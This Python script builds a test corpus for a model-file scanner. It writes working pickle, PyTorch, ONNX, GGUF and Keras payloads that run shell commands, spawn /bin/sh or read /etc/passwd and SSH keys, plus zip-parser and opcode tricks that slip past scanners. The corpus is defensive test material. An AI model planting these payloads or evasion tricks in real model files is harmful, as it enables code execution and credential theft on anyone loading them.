#!/usr/bin/env python3
"""Writes Rampart's model-scanner test corpus: malicious-but-inert and benign model files.

Every malicious file is written as raw bytes: this script never unpickles, imports a model
library, or loads anything it writes. Each file is listed in MANIFEST.json with the verdict a
correct scanner must give ("malicious" or "benign") and the bypass class it exercises.

usage: model-corpus.py OUTDIR
"""
import base64, bz2, gzip, io, json, lzma, os, pickle, struct, sys, tarfile, zipfile, zlib

OUT = sys.argv[1] if len(sys.argv) > 1 else "target/model-corpus"
os.makedirs(OUT, exist_ok=True)
MANIFEST = []


# Files whose worst finding must be at least this severe: every gadget that runs code is
# critical, whichever module carries it.
CRITICAL = {
    "p0_os_system.pkl", "p2_posix_system.pkl", "p4_builtins_exec.pkl", "py2_builtin_eval.pkl", "pip_main.pkl",
    "pkgutil_resolve_name.pkl", "asyncio_unix_events.pkl", "cprofile_run.pkl", "timeit_timeit.pkl",
    "doctest_debug_script.pkl", "trace_trace.pkl", "code_interpreter.pkl", "torch_collect_env_run.pkl",
    "torch_hub_load.pkl", "torch_cpp_extension.pkl", "ctypes_cdll.pkl", "pty_spawn.pkl",
    "uuid_get_command_stdout.pkl", "runpy_run_path.pkl", "importlib_import_module.pkl", "marshal_loads.pkl",
    "numpy_runstring.pkl",
}


def emit(name, data, verdict, cls, note="", severity=None):
    path = os.path.join(OUT, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    entry = {"file": name, "expect": verdict, "class": cls, "note": note}
    if severity or name in CRITICAL:
        entry["severity"] = severity or "critical"
    MANIFEST.append(entry)


# ---- pickle opcode helpers (raw bytes) ----
def proto(n): return b"\x80" + bytes([n])
def sbu(s): b = s.encode(); return b"\x8c" + bytes([len(b)]) + b
def binu(s): b = s.encode(); return b"X" + struct.pack("<I", len(b)) + b
def glob(m, n): return b"c" + m.encode() + b"\n" + n.encode() + b"\n"
def sglob(m, n): return sbu(m) + sbu(n) + b"\x93"
def call1(arg): return arg + b"\x85R"          # TUPLE1 REDUCE
def string0(s): return b"S'" + s.encode() + b"'\n"
STOP = b"."


def reduce_p2(m, n, arg="id"):
    return proto(2) + glob(m, n) + call1(binu(arg)) + STOP


def reduce_p4(m, n, arg="id"):
    return proto(4) + sglob(m, n) + call1(sbu(arg)) + STOP


# ---- malicious: denylist gaps and known-dangerous globals ----
emit("p0_os_system.pkl", glob("os", "system") + b"(" + string0("echo pwned") + b"tR.", "malicious", "protocol 0 GLOBAL+REDUCE")
emit("p2_posix_system.pkl", reduce_p2("posix", "system"), "malicious", "os alias (posix)")
emit("p4_builtins_exec.pkl", reduce_p4("builtins", "exec", "import os"), "malicious", "STACK_GLOBAL builtins.exec")
emit("py2_builtin_eval.pkl", reduce_p2("__builtin__", "eval", "1"), "malicious", "python 2 module name (__builtin__)")
emit("pip_main.pkl", proto(4) + sglob("pip", "main") + b"]" + sbu("install") + b"a" + b"\x85R.", "malicious", "denylist gap: pip.main")
emit("pkgutil_resolve_name.pkl", proto(4) + sglob("pkgutil", "resolve_name") + call1(sbu("os:system")) + call1(sbu("id")) + STOP, "malicious", "denylist gap: pkgutil.resolve_name + call of its result")
emit("asyncio_unix_events.pkl", reduce_p4("asyncio.unix_events", "_UnixSubprocessTransport"), "malicious", "denylist gap: asyncio submodule (CVE-2025-10157)")
emit("cprofile_run.pkl", reduce_p4("cProfile", "run", "import os; os.system('id')"), "malicious", "runner: cProfile.run")
emit("timeit_timeit.pkl", reduce_p4("timeit", "timeit", "__import__('os').system('id')"), "malicious", "runner: timeit")
emit("doctest_debug_script.pkl", reduce_p4("doctest", "debug_script", "import os"), "malicious", "runner: doctest.debug_script")
emit("trace_trace.pkl", proto(4) + sglob("trace", "Trace") + b")R." , "malicious", "runner: trace.Trace")
emit("code_interpreter.pkl", proto(4) + sglob("code", "InteractiveInterpreter") + b")R." , "malicious", "runner: code.InteractiveInterpreter")
emit("torch_collect_env_run.pkl", reduce_p2("torch.utils.collect_env", "run", "id"), "malicious", "torch internals: collect_env.run runs a shell command")
emit("torch_hub_load.pkl", reduce_p2("torch.hub", "load", "evil/repo"), "malicious", "torch internals: torch.hub.load")
emit("torch_cpp_extension.pkl", reduce_p2("torch.utils.cpp_extension", "load_inline", "x"), "malicious", "torch internals: cpp_extension")
emit("operator_attrgetter.pkl", proto(4) + sglob("_operator", "attrgetter") + call1(sbu("system")) + sglob("os", "path") + b"\x85R.", "malicious", "_operator getters")
emit("operator_methodcaller.pkl", proto(4) + sglob("operator", "methodcaller") + sbu("system") + sbu("id") + b"\x86R.", "malicious", "operator.methodcaller")
emit("functools_partial.pkl", proto(4) + sglob("functools", "partial") + sglob("os", "system") + sbu("id") + b"\x86R)R.", "malicious", "functools.partial")
emit("ctypes_cdll.pkl", reduce_p4("ctypes", "CDLL", "libc.so.6"), "malicious", "ctypes")
emit("pty_spawn.pkl", reduce_p4("pty", "spawn", "/bin/sh"), "malicious", "pty.spawn")
emit("uuid_get_command_stdout.pkl", reduce_p4("uuid", "_get_command_stdout", "id"), "malicious", "uuid helper runs commands")
emit("runpy_run_path.pkl", reduce_p4("runpy", "run_path", "/tmp/x.py"), "malicious", "runpy")
emit("importlib_import_module.pkl", reduce_p4("importlib", "import_module", "os"), "malicious", "importlib")
emit("marshal_loads.pkl", proto(4) + sglob("marshal", "loads") + call1(b"C\x01c") + STOP, "malicious", "marshal")
emit("numpy_runstring.pkl", reduce_p4("numpy.testing._private.utils", "runstring", "import os"), "malicious", "numpy.testing runstring")
# ---- dotted names ----
emit("dotted_torch_serialization_os.pkl", reduce_p4("torch.serialization", "os.system"), "malicious", "dotted name through an imported module")
emit("dotted_numpy_os.pkl", reduce_p4("numpy", "testing._private.utils.os.system"), "malicious", "dotted name (numpy...os.system)")
emit("dotted_dunder_globals.pkl", reduce_p4("collections", "OrderedDict.__init__.__globals__"), "malicious", "dotted dunder path")
# ---- operand tricks ----
memo = proto(4) + sbu("os") + b"\x94" + b"0" + sbu("system") + b"\x94" + b"0" + b"h\x00h\x01\x93" + call1(sbu("id")) + STOP
emit("memo_indirection.pkl", memo, "malicious", "memo indirection for STACK_GLOBAL operands")
emit("stack_global_from_string.pkl", proto(4) + string0("os") + string0("system") + b"\x93" + call1(sbu("id")) + STOP, "malicious", "STACK_GLOBAL operands from STRING opcodes")
emit("stack_global_binstring.pkl", proto(4) + b"U\x02os" + b"T" + struct.pack("<i", 6) + b"system" + b"\x93" + call1(sbu("id")) + STOP, "malicious", "STACK_GLOBAL operands from BINSTRING/SHORT_BINSTRING")
nonlit = proto(4) + sglob("builtins", "str") + call1(sbu("os")) + sbu("system") + b"\x93" + call1(sbu("id")) + STOP
emit("non_literal_stack_global.pkl", nonlit, "malicious", "non-literal import operand")
emit("obj_pop.pkl", proto(2) + b"(" + glob("builtins", "exec") + binu("import os") + b"o0" + b"}." , "malicious", "OBJ + POP: the call's result is discarded")
emit("inst_opcode.pkl", b"(" + string0("id") + b"ios\nsystem\n.", "malicious", "INST imports and calls")
emit("newobj_ex.pkl", proto(4) + sglob("subprocess", "Popen") + b"]" + sbu("id") + b"a\x85}\x92.", "malicious", "NEWOBJ_EX")
emit("newobj.pkl", proto(2) + glob("subprocess", "Popen") + binu("id") + b"\x85\x81.", "malicious", "NEWOBJ")
emit("ext_registry.pkl", proto(2) + b"\x82\x01)R.", "malicious", "EXT1 extension-registry import")
emit("build_on_global.pkl", proto(2) + glob("torch.nn.modules.module", "Module") + b"}" + binu("__reduce_ex__") + glob("os", "system") + b"sb.", "malicious", "BUILD overwrites attributes of a class")
# FRAME differential: a frame of 3 bytes, then an opcode straddling it (C unpickler runs it)
body = sbu("os") + sbu("system") + b"\x93" + call1(sbu("id")) + STOP
emit("frame_straddle.pkl", proto(4) + b"\x95" + struct.pack("<Q", 3) + body, "malicious", "FRAME-boundary differential")
# broken streams (nullifAI): the REDUCE runs before the unpickler hits the garbage
emit("broken_after_reduce.pkl", proto(2) + glob("os", "system") + call1(binu("id")) + b"\xff\xfe garbage", "malicious", "broken stream after REDUCE (nullifAI)")
emit("truncated.pkl", reduce_p4("os", "system")[:-6], "malicious", "truncated stream")
# extension confusion: pickles named like other things
emit("confusion/config.json", reduce_p2("os", "system"), "malicious", "extension confusion: config.json")
emit("confusion/weights.bin", reduce_p2("subprocess", "check_output"), "malicious", "extension confusion: .bin")
emit("confusion/notes.txt", b"(" + glob("subprocess", "Popen") + b"(S'id'\nto.", "malicious", "extension confusion: protocol 0 as .txt")
emit("confusion/model.pt", reduce_p2("os", "system"), "malicious", "plain pickle named .pt (CVE-2025-10155 class)")
emit("confusion/model.safetensors", reduce_p4("os", "system"), "malicious", "pickle named .safetensors")
# multi-pickle (legacy torch shape: first pickle benign, model pickle malicious)
magic = proto(2) + b"\x8a\x0a" + (0x1950a86a20f9469cfc6c).to_bytes(10, "little") + STOP
emit("multi_pickle.bin", magic + proto(2) + b"M\xe9\x03." + reduce_p2("os", "system"), "malicious", "second pickle in a multi-pickle stream")

# ---- compressed (joblib-style) ----
evil = reduce_p2("os", "system")
emit("joblib/model.joblib.gz", gzip.compress(evil), "malicious", "gzip-compressed pickle")
emit("joblib/model.joblib.bz2", bz2.compress(evil), "malicious", "bz2-compressed pickle")
emit("joblib/model.joblib.xz", lzma.compress(evil), "malicious", "xz-compressed pickle")
emit("joblib/model.joblib.lzma", lzma.compress(evil, format=lzma.FORMAT_ALONE), "malicious", "lzma-compressed pickle")
emit("joblib/model.joblib.z", zlib.compress(evil), "malicious", "zlib-compressed pickle")


# ---- numpy ----
def npy(descr, shape, data):
    h = "{'descr': %r, 'fortran_order': False, 'shape': %r, }" % (descr, shape)
    h += " " * ((64 - (10 + len(h) + 1) % 64) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h.encode() + data


emit("numpy/object_array.npy", npy("|O", (1,), reduce_p2("os", "system")), "malicious", "numpy object array carrying a pickle")
good_npy = npy("<f4", (2, 3), struct.pack("<6f", *range(6)))
emit("numpy/floats.npy", good_npy, "benign", "numpy float array")


def zip_bytes(entries, method=zipfile.ZIP_STORED):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as z:
        for name, data in entries:
            z.writestr(zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0)), data)
    return bytearray(buf.getvalue())


emit("numpy/arrays.npz", bytes(zip_bytes([("a.npy", good_npy), ("b.npy", good_npy)], zipfile.ZIP_DEFLATED)), "benign", "npz archive")
emit("numpy/object.npz", bytes(zip_bytes([("a.npy", good_npy), ("obj.npy", npy("|O", (1,), reduce_p2("os", "system")))])), "malicious", "npz with an object array")


# ---- PyTorch files ----
def torch_data_pkl(key="0", numel=4):
    """OrderedDict({'weight': tensor}) as torch.save writes it (protocol 2, persistent ids)."""
    p = proto(2) + glob("collections", "OrderedDict") + b")R" + b"q\x00("
    p += binu("weight") + glob("torch._utils", "_rebuild_tensor_v2") + b"q\x01("
    p += b"(" + binu("storage") + glob("torch", "FloatStorage") + binu(key) + binu("cpu") + b"K" + bytes([numel]) + b"tq\x02Q"
    p += b"K\x00" + b"K\x02K\x02\x86" + b"K\x02K\x01\x86" + b"\x89" + glob("collections", "OrderedDict") + b")R" + b"tR"
    p += b"u}q\x03" + binu("_metadata") + glob("collections", "OrderedDict") + b")R" + b"sb."
    return p


def torch_zip(data_pkl, extra=(), prefix="archive"):
    entries = [(f"{prefix}/data.pkl", data_pkl), (f"{prefix}/byteorder", b"little"),
               (f"{prefix}/data/0", struct.pack("<4f", 1, 2, 3, 4)), (f"{prefix}/version", b"3\n"),
               (f"{prefix}/.data/serialization_id", b"1234567890")]
    return zip_bytes(list(entries) + list(extra))


benign_torch = torch_zip(torch_data_pkl())
emit("torch/state_dict.pt", bytes(benign_torch), "benign", "PyTorch zip state dict")
emit("torch/state_dict_named.bin", bytes(benign_torch), "benign", "PyTorch zip named .bin")
emit("torch/storage_starts_like_pickle.pt", bytes(torch_zip(torch_data_pkl(), prefix="m")[:0] or zip_bytes([("m/data.pkl", torch_data_pkl()), ("m/data/0", b"\x80\x02\x00\x01\x02\x03\x04\x05" * 2), ("m/version", b"3\n")])), "benign", "storage bytes that start like a pickle")
emit("torch/malicious_data_pkl.pt", bytes(torch_zip(reduce_p2("os", "system"))), "malicious", "PyTorch zip with a malicious data.pkl")


def patch_local_name(z, old, new):
    """Change the local header's file name only (same length)."""
    i = z.find(b"PK\x03\x04" )
    while i >= 0:
        n = struct.unpack_from("<H", z, i + 26)[0]
        if z[i + 30:i + 30 + n] == old:
            z[i + 30:i + 30 + n] = new
            return z
        i = z.find(b"PK\x03\x04", i + 4)
    raise SystemExit("local header not found")


z = torch_zip(reduce_p2("os", "system"))
emit("zip/cve_2025_1944_name_mismatch.pt", bytes(patch_local_name(z, b"archive/data.pkl", b"archive/data.txt")), "malicious", "local/central name mismatch (CVE-2025-1944)")


def set_flags(z, name, bits):
    for sig, name_off, flag_off in ((b"PK\x03\x04", 30, 6), (b"PK\x01\x02", 46, 8)):
        i = z.find(sig)
        while i >= 0:
            n = struct.unpack_from("<H", z, i + (26 if sig == b"PK\x03\x04" else 28))[0]
            if z[i + name_off:i + name_off + n] == name:
                struct.pack_into("<H", z, i + flag_off, struct.unpack_from("<H", z, i + flag_off)[0] | bits)
            i = z.find(sig, i + 4)
    return z


emit("zip/cve_2025_1945_flag_bits.pt", bytes(set_flags(torch_zip(reduce_p2("os", "system")), b"archive/data.pkl", 0x0001)), "malicious", "encrypted flag bit set (CVE-2025-1945)")


def break_crc(z, name):
    i = z.find(b"PK\x01\x02")
    while i >= 0:
        n = struct.unpack_from("<H", z, i + 28)[0]
        if z[i + 46:i + 46 + n] == name:
            struct.pack_into("<I", z, i + 16, 0xDEADBEEF)
        i = z.find(b"PK\x01\x02", i + 4)
    j = z.find(b"PK\x03\x04")
    while j >= 0:
        n = struct.unpack_from("<H", z, j + 26)[0]
        if z[j + 30:j + 30 + n] == name:
            struct.pack_into("<I", z, j + 14, 0xDEADBEEF)
        j = z.find(b"PK\x03\x04", j + 4)
    return z


emit("zip/cve_2025_10156_bad_crc.pt", bytes(break_crc(torch_zip(reduce_p2("os", "system")), b"archive/data.pkl")), "malicious", "bad CRC (CVE-2025-10156)")
emit("zip/cve_2025_1889_odd_extension.pt", bytes(torch_zip(torch_data_pkl(), extra=[("archive/extra/payload.xyz", reduce_p2("os", "system"))])), "malicious", "pickle under a non-standard name in the archive (CVE-2025-1889)")
inner = bytes(torch_zip(reduce_p2("os", "system")))
emit("zip/nested_zip.zip", bytes(zip_bytes([("model/inner.pt", inner)])), "malicious", "zip nested in a zip")
emit("zip/nested_zip_deflated.zip", bytes(zip_bytes([("model/inner.pt", inner)], zipfile.ZIP_DEFLATED)), "malicious", "deflated zip nested in a zip")
# a corrupt first entry (its local header is garbage) before a malicious one
z = zip_bytes([("archive/aaa.bin", b"x" * 64), ("archive/data.pkl", reduce_p2("os", "system")), ("archive/version", b"3\n")])
z[0:4] = b"XXXX"
emit("zip/corrupt_first_entry.pt", bytes(z), "malicious", "corrupt earlier entry")
# an entry present only as a local header: drop it from the central directory
z = zip_bytes([("archive/data.pkl", torch_data_pkl()), ("archive/hidden.pkl", reduce_p2("os", "system"))])
cd = z.find(b"PK\x01\x02")
second = z.find(b"PK\x01\x02", cd + 4)
eocd = z.find(b"PK\x05\x06")
hidden_len = eocd - second
z = z[:second] + z[eocd:]
e = z.find(b"PK\x05\x06")
struct.pack_into("<HHI", z, e + 8, 1, 1, struct.unpack_from("<I", z, e + 12)[0] - hidden_len)
emit("zip/hidden_local_entry.pt", bytes(z), "malicious", "entry missing from the central directory")
emit("zip/torchscript_code.pt", bytes(torch_zip(torch_data_pkl(), extra=[("archive/code/__torch__/m.py", b"def forward(self, x):\n    return x\n")])), "malicious", "TorchScript code shipped in the archive (embedded code)")
# deflated data.pkl (torch writes stored, but miniz reads deflate)
emit("zip/deflated_data_pkl.pt", bytes(zip_bytes([("archive/data.pkl", reduce_p2("os", "system")), ("archive/version", b"3\n")], zipfile.ZIP_DEFLATED)), "malicious", "deflated data.pkl")

# legacy torch (non-zip): magic, protocol, sys_info, model pickle, storage keys, raw storages
sys_info = proto(2) + b"}(" + binu("protocol_version") + b"M\xe9\x03" + binu("little_endian") + b"\x88u."
legacy_ok = magic + proto(2) + b"M\xe9\x03." + sys_info + torch_data_pkl() + proto(2) + b"]" + binu("0") + b"a." + struct.pack("<Q", 4) + struct.pack("<4f", 1, 2, 3, 4)
emit("torch/legacy_format.bin", legacy_ok, "benign", "legacy (pre-1.6) torch.save format")
legacy_bad = magic + proto(2) + b"M\xe9\x03." + sys_info + reduce_p2("os", "system") + proto(2) + b"]." + struct.pack("<Q", 0)
emit("torch/legacy_malicious.bin", legacy_bad, "malicious", "legacy torch format with a malicious model pickle")
# legacy tar format
tb = io.BytesIO()
with tarfile.open(fileobj=tb, mode="w", format=tarfile.USTAR_FORMAT) as t:
    for name, data in (("sys_info", sys_info), ("pickle", reduce_p2("os", "system")), ("storages", proto(2) + b"K\x00.")):
        ti = tarfile.TarInfo(name); ti.size = len(data); ti.mtime = 0
        t.addfile(ti, io.BytesIO(data))
emit("torch/legacy_tar.tar", tb.getvalue(), "malicious", "legacy torch tar format")
emit("torch/legacy_tar.tar.gz", gzip.compress(tb.getvalue(), mtime=0), "malicious", "gzipped tar")


# ---- joblib with NumpyArrayWrapper (raw array bytes inline) ----
def joblib_array_pickle(payload_after=b""):
    dtype = glob("numpy", "dtype") + b"(" + binu("f8") + b"\x89\x88tR" + b"(K\x03" + binu("<") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
    state = b"}(" + binu("subclass") + glob("numpy", "ndarray") + binu("shape") + b"K\x03\x85" + binu("order") + binu("C") + binu("dtype") + dtype + binu("allow_mmap") + b"\x89" + binu("numpy_array_alignment_bytes") + b"K\x10u"
    p = proto(4) + b"}(" + binu("coef") + glob("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b"
    pos = len(p)
    pad = 16 - ((pos + 1) % 16)
    p += bytes([pad]) + b"\xff" * pad + struct.pack("<3d", 1.0, 2.0, 3.0)
    p += binu("intercept") + b"G" + struct.pack(">d", 0.5) + b"u" + payload_after + b"."
    return p


emit("joblib/estimator.joblib", joblib_array_pickle(), "benign", "joblib pickle with an inline numpy array")
emit("joblib/estimator.joblib.gz", gzip.compress(joblib_array_pickle(), mtime=0), "benign", "gzip joblib with an inline numpy array")
emit("joblib/estimator_evil.joblib", joblib_array_pickle(payload_after=b"0" + glob("os", "system") + call1(binu("id"))), "malicious", "code after joblib raw array data")

# ---- plain benign pickles ----
for p in range(0, 6):
    import pickle  # dumping builtin data only; nothing is ever loaded
    emit(f"plain/data_p{p}.pkl", pickle.dumps({"lr": 0.01, "layers": [64, 64], "name": "mlp", "ok": True, "t": (1, 2)}, protocol=p), "benign", f"plain data, protocol {p}")


# ---- safetensors ----
def safetensors(header, data):
    h = json.dumps(header, separators=(",", ":")).encode()
    h += b" " * ((8 - len(h) % 8) % 8)
    return struct.pack("<Q", len(h)) + h + data


emit("safetensors/model.safetensors", safetensors({"__metadata__": {"format": "pt"}, "w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}, "b": {"dtype": "F32", "shape": [2], "data_offsets": [16, 24]}}, b"\x00" * 24), "benign", "valid safetensors")
emit("safetensors/overlap.safetensors", safetensors({"w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}, "b": {"dtype": "F32", "shape": [2], "data_offsets": [8, 16]}}, b"\x00" * 16), "malicious", "overlapping tensors")
emit("safetensors/out_of_bounds.safetensors", safetensors({"w": {"dtype": "F32", "shape": [1024], "data_offsets": [0, 4096]}}, b"\x00" * 16), "malicious", "tensor past the end")


# ---- GGUF ----
def gstr(s): b = s.encode(); return struct.pack("<Q", len(b)) + b


def gguf(template):
    kv = [("general.architecture", 8, gstr("llama")), ("tokenizer.chat_template", 8, gstr(template))]
    b = b"GGUF" + struct.pack("<IQQ", 3, 1, len(kv))
    for k, t, v in kv:
        b += gstr(k) + struct.pack("<I", t) + v
    b += gstr("w") + struct.pack("<I", 1) + struct.pack("<Q", 8) + struct.pack("<IQ", 0, 0)
    b += b"\x00" * ((32 - len(b) % 32) % 32) + b"\x00" * 32
    return b


emit("gguf/model.gguf", gguf("{% for m in messages %}<|{{ m['role'] }}|>{{ m['content'] }}{% endfor %}"), "benign", "GGUF with a plain chat template")
emit("gguf/ssti.gguf", gguf("{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}"), "malicious", "chat template sandbox escape (CVE-2024-34359)")

# ---- Keras ----
dense = {"module": "keras.layers", "class_name": "Dense", "config": {"name": "dense", "units": 4}, "registered_name": None}
lam = {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "lambda", "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAAAAAAAAEAAAADAAAAQwAAAHMMAAAAdABkAYMBAQBkAFMAKQJOegJpZCkB"}}}, "registered_name": None}
def keras(layers):
    cfg = {"module": "keras", "class_name": "Sequential", "config": {"name": "seq", "layers": layers}, "registered_name": None}
    return bytes(zip_bytes([("metadata.json", json.dumps({"keras_version": "3.5.0"}).encode()), ("config.json", json.dumps(cfg).encode()), ("model.weights.h5", b"\x89HDF\r\n\x1a\n" + b"\x00" * 64)]))
emit("keras/dense.keras", keras([dense]), "benign", "Keras model with Dense layers")
emit("keras/lambda.keras", keras([dense, lam]), "malicious", "Keras Lambda layer")
def legacy_h5(cfg_json):
    # HDF5 signature, a superblock-sized gap, then the root group's `model_config` attribute
    # as Keras 2 writes it (a string attribute holding the model JSON).
    return b"\x89HDF\r\n\x1a\n" + b"\x00" * 504 + b"model_config\x00\x00\x00\x00" + cfg_json.encode() + b"\x00" * 256
emit("keras/legacy_dense.h5", legacy_h5(json.dumps({"class_name": "Sequential", "config": {"name": "seq", "layers": [{"class_name": "Dense", "config": {"name": "dense", "units": 4}}]}})), "benign", "legacy Keras .h5 with Dense layers")
emit("keras/legacy_lambda.h5", legacy_h5(json.dumps({"class_name": "Sequential", "config": {"name": "seq", "layers": [lam]}})), "malicious", "legacy Keras .h5 with a Lambda layer")
emit("keras/legacy_lambda_reordered.h5", legacy_h5(json.dumps({"config": {"name": "seq", "layers": [{"config": lam["config"], "class_name": "Lambda"}]}, "class_name": "Sequential"})), "malicious", "legacy .h5: Lambda with keys reordered (class_name last)")
emit("keras/foreign_module.keras", keras([dense, {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}]), "malicious", "Keras config naming os.system")

# A pickle that is also a zip: torch.load reads the pickle (it checks the first bytes), zipfile
# reads the archive (it looks from the end), whose data.pkl runs a command.
polyglot = b"\x80\x02}q\x00."  # an empty dict
polyglot += bytes(torch_zip(reduce_p2("os", "system")))
emit("zip/pickle_zip_polyglot.pt", polyglot, "malicious", "pickle/zip polyglot: benign pickle first, malicious zip behind it")

# ---- ONNX and TensorFlow SavedModel (protobuf written by hand: no onnx/tensorflow needed) ----
def pbv(n):
    out = b""
    while True:
        b = n & 0x7f
        n >>= 7
        if n:
            out += bytes([b | 0x80])
        else:
            return out + bytes([b])
def pbi(num, v): return pbv(num << 3) + pbv(v)
def pbb(num, data):
    if isinstance(data, str): data = data.encode()
    return pbv(num << 3 | 2) + pbv(len(data)) + data
def onnx_tensor(name, raw=None, location=None):
    t = pbi(1, 4) + pbi(2, 1) + pbb(8, name)
    if location is None:
        t += pbb(9, raw if raw is not None else struct.pack("<4f", 1, 2, 3, 4))
    else:
        t += pbb(13, pbb(1, "location") + pbb(2, location)) + pbb(13, pbb(1, "offset") + pbb(2, "0")) + pbi(14, 1)
    return t
def onnx_node(op, inputs, outputs, domain="", attrs=b""):
    n = b"".join(pbb(1, i) for i in inputs) + b"".join(pbb(2, o) for o in outputs) + pbb(3, op.lower()) + pbb(4, op)
    if domain: n += pbb(7, domain)
    return n + attrs
def onnx_value(name): return pbb(1, name) + pbb(2, pbb(1, pbi(1, 1) + pbb(2, pbb(1, pbi(1, 4)))))
def onnx_graph(nodes, inits, name="main"):
    g = b"".join(pbb(1, n) for n in nodes) + pbb(2, name) + b"".join(pbb(5, t) for t in inits)
    return g + pbb(11, onnx_value("x")) + pbb(12, onnx_value("y"))
def onnx_model(graph, domains=("",), functions=b""):
    m = pbi(1, 8) + pbb(2, "pytorch") + pbb(3, "2.3.0") + pbb(7, graph)
    for d in domains:
        m += pbb(8, (pbb(1, d) if d else b"") + pbi(2, 17 if not d else 1))
    return m + functions
relu = onnx_graph([onnx_node("MatMul", ["x", "w"], ["h"]), onnx_node("Relu", ["h"], ["y"])], [onnx_tensor("w")])
emit("onnx/model.onnx", onnx_model(relu), "benign", "ONNX MatMul+Relu with inline weights")
emit("onnx/external_ok.onnx", onnx_model(onnx_graph([onnx_node("MatMul", ["x", "w"], ["y"])], [onnx_tensor("w", location="model.onnx.data")])), "benign", "ONNX external data next to the model")
local_fn = pbb(25, pbb(1, "FastGelu") + pbb(10, "custom.local") + pbb(4, "X") + pbb(5, "Y") + pbb(7, onnx_node("Tanh", ["X"], ["Y"])) + pbb(9, pbi(2, 17)))
emit("onnx/local_function.onnx", onnx_model(onnx_graph([onnx_node("FastGelu", ["x"], ["y"], domain="custom.local")], []), domains=("", "custom.local"), functions=local_fn), "benign", "ONNX node calling a model-local function")
emit("onnx/external_traversal.onnx", onnx_model(onnx_graph([onnx_node("MatMul", ["x", "w"], ["y"])], [onnx_tensor("w", location="../../../../../../etc/passwd")])), "malicious", "ONNX external data path traversal (CVE-2022-25882 class)")
emit("onnx/external_absolute.bin", onnx_model(onnx_graph([onnx_node("MatMul", ["x", "w"], ["y"])], [onnx_tensor("w", location="/root/.ssh/id_rsa")])), "malicious", "ONNX external data at an absolute path, named .bin")
emit("onnx/custom_domain.onnx", onnx_model(onnx_graph([onnx_node("RunShell", ["x"], ["y"], domain="com.evil.ops")], []), domains=("", "com.evil.ops")), "malicious", "ONNX custom operator domain (needs a native op library)")
then_g = onnx_graph([onnx_node("Exec", ["x"], ["y"], domain="org.attacker")], [onnx_tensor("c", location="/proc/self/environ")], name="then")
if_attr = pbb(5, pbb(1, "then_branch") + pbi(20, 5) + pbb(6, then_g)) + pbb(5, pbb(1, "else_branch") + pbi(20, 5) + pbb(6, relu))
emit("onnx/subgraph.onnx", onnx_model(onnx_graph([onnx_node("If", ["cond"], ["y"], attrs=if_attr)], [])), "malicious", "ONNX If subgraph hiding a custom op and an absolute external-data path")

def tf_node(name, op, inputs=()): return pbb(1, name) + pbb(2, op) + b"".join(pbb(3, i) for i in inputs)
def saved_model(nodes, functions=()):
    lib = b"".join(pbb(1, pbb(1, pbb(1, fname)) + b"".join(pbb(3, n) for n in fnodes)) for fname, fnodes in functions)
    graph = b"".join(pbb(1, n) for n in nodes) + (pbb(2, lib) if lib else b"") + pbb(4, pbi(1, 1087))
    meta = pbb(1, pbb(4, "serve") + pbb(5, "2.16.1")) + pbb(2, graph)
    return pbi(1, 1) + pbb(2, meta)
saver = [tf_node("saver_filename", "Placeholder"), tf_node("StatefulPartitionedCall", "StatefulPartitionedCall"), tf_node("save/SaveV2", "SaveV2"), tf_node("save/RestoreV2", "RestoreV2"), tf_node("MergeV2Checkpoints", "MergeV2Checkpoints")]
emit("savedmodel/benign/saved_model.pb", saved_model(saver + [tf_node("dense/MatMul", "MatMul", ["x", "w"])], functions=[("__inference_serve_10", [tf_node("relu", "Relu", ["x"])])]), "benign", "SavedModel with the standard saver ops")
emit("savedmodel/readfile/saved_model.pb", saved_model(saver + [tf_node("leak", "ReadFile", ["path"])]), "malicious", "SavedModel graph reading a file (tf.io.read_file)")
emit("savedmodel/writefile_in_function/saved_model.pb", saved_model(saver, functions=[("__inference_serve_10", [tf_node("drop", "WriteFile", ["p", "c"])])]), "malicious", "SavedModel tf.function writing a file")
emit("savedmodel/pyfunc/saved_model.pb", saved_model(saver, functions=[("__inference_call_7", [tf_node("py", "EagerPyFunc", ["x"])])]), "malicious", "SavedModel calling a Python function (tf.py_function)")

# ---- benign non-model files ----
emit("misc/README.md", b"# A model card\n\nThis model classifies things.\n", "benign", "text")
emit("misc/config.json", json.dumps({"hidden_size": 64, "architectures": ["Mlp"]}).encode(), "benign", "JSON config")
emit("misc/tokenizer.txt", b"[PAD]\n[UNK]\nhello\nworld\n", "benign", "vocab")

# =====================================================================================
# Round 2 (issue 15): code reached through configuration, archive parser differentials,
# pickles that do not announce themselves, lies told with allowlisted parts, severity by
# capability. Sources: Keras CVE-2025-1550 / CVE-2025-12058 and the TFSMLayer and
# TorchModuleWrapper advisories, NeMo/Hydra `_target_` instantiation (CVE-2025-23304 class),
# transformers remote code (auto_map, custom pipelines, Hub kernels), CPython gh-86094
# (zipfile reads the Info-ZIP Unicode Path field from 3.12), zipfile's NUL cut and
# last-wins duplicates, PyTorch's legacy multi-pickle format, joblib's compat NDArrayWrapper.

# ---- 1. configs that make loaders import, read or fetch ----
def keras_zip(layers, members=("metadata.json", "config.json", "model.weights.h5"), compile_config=None):
    cfg = {"module": "keras", "class_name": "Sequential", "config": {"name": "seq", "layers": layers}, "registered_name": None}
    if compile_config:
        cfg["compile_config"] = compile_config
    all_members = {"metadata.json": json.dumps({"keras_version": "3.10.0"}).encode(), "config.json": json.dumps(cfg).encode(),
                   "model.weights.h5": b"\x89HDF\r\n\x1a\n" + b"\x00" * 64}
    return bytes(zip_bytes([(m, all_members[m]) for m in members]))


def klayer(cls, **config):
    return {"module": "keras.layers", "class_name": cls, "config": {"name": cls.lower(), **config}, "registered_name": None}


